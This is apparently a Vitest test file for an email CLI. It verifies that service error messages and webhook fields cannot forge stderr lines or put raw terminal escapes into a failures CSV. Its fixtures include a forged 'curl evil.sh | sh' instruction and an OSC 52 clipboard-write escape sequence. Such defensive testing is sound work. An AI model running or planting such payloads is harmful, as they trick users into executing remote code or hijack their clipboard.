// Text from outside that is one logical message (a service's error message, a
// sender's ListID) stays one line on stderr: a line break inside it shows as
// `\n` and cannot pass for a line of the tool's own (CLI.md "untrusted text").
// The failures file's cells written by the tool carry no raw controls either,
// so `cat failed.csv` runs no escape sequence. Through bin/email.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { spawnCli, tempConfigDir } from '../helpers/cli.js';
import { useCleanups } from '../helpers/cleanups.js';
import { tempDir, writeFile } from '../helpers/import-files.js';
import { startScriptedServer } from '../helpers/scripted-server.js';
import { post, spawnListen, waitUntil } from '../helpers/webhooks.js';

const cleanups = useCleanups();
const FORGED = 'error: your API key expired, run: curl evil.sh | sh';
const LIST = '11111111-1111-4111-8111-111111111111';

/** No line of stderr starts with the forged text: it stayed inside its message's line. */
function expectNoForgedLine(stderr: string): void {
  for (const line of stderr.split('\n')) expect(line.startsWith(FORGED), stderr).toBe(false);
}

async function scripted() {
  const server = await startScriptedServer();
  cleanups.push(() => server.close());
  return server;
}

describe('a line break in a service message (auth login)', () => {
  for (const status of [400, 401]) {
    it(`answered ${status}: the message stays one line, its line break shown as \\n`, async () => {
      const server = await scripted();
      server.reply({ status, body: { Code: 1, Message: `L\n${FORGED}` } });
      const r = await spawnCli(['auth', 'login', '--base-url', server.url, '--with-key', '--insecure-storage'], {
        env: { EMAIL_CONFIG_DIR: tempConfigDir() },
        stdin: 'sk-test-abcdefghijklmnop',
      });
      expect(r.code).not.toBe(0);
      expectNoForgedLine(r.stderr);
      expect(r.stderr).toContain(`L\\n${FORGED}`);
    });
  }
});

describe("a line break in a sender's ListID (webhooks listen)", () => {
  it('the notice quotes it on one line', async () => {
    const { url, stderr } = await spawnListen([], cleanups);
    const delivery = { Events: [{ Type: 'Deactivate', Date: '2025-03-04 05:06:09', EmailAddress: 'gone@example.com', Name: 'G', State: 'Unsubscribed', CustomFields: [] }], ListID: `L\n${FORGED}` };
    const answer = await post(url, JSON.stringify(delivery), 'application/json');
    expect(answer.status).toBeLessThan(500);
    await waitUntil(() => stderr().includes('delivery 1') || answer.status >= 400, 'the notice');
    await new Promise((r) => setTimeout(r, 100));
    expectNoForgedLine(stderr());
  });
});

describe('the failures file (subscribers import --failures)', () => {
  it("keeps no raw ESC or BEL from the service's row messages; the user's cells stay as read", async () => {
    const server = await scripted();
    const dir = tempDir();
    writeFile(dir, 'people.csv', 'email,name,Consent\na@example.com,"A\tB",yes\nb@example.com,B,yes\n');
    const osc52 = '\u001b]52;c;ZWNobyBldmls\u0007';
    server.reply({
      status: 200,
      body: {
        TotalUniqueEmailsSubmitted: 2,
        TotalExistingSubscribers: 0,
        TotalNewSubscribers: 0,
        DuplicateEmailsInSubmission: [],
        FailureDetails: [
          { EmailAddress: 'a@example.com', Code: 1, Message: `bad${osc52}\nnext` },
          { EmailAddress: 'b@example.com', Code: 1, Message: 'fine' },
        ],
      },
    });
    const r = await spawnCli(['subscribers', 'import', 'people.csv', '--list', LIST, '--failures', 'failed.csv'], {
      cwd: dir,
      env: { EMAIL_BASE_URL: server.url, EMAIL_API_KEY: 'sk-test-abcdefghijklmnop' },
    });
    // None imported: exit 1 (CLI.md "Exit codes").
    expect(r.code, r.stderr).toBe(1);
    const failures = readFileSync(join(dir, 'failed.csv'), 'utf8');
    expect(failures).not.toContain('\u001b');
    expect(failures).toContain('bad\\x1b]52;c;ZWNobyBldmls\\x07\\nnext');
    // The user's own cell is written back as it was read.
    expect(failures).toContain('A\tB');
  });
});
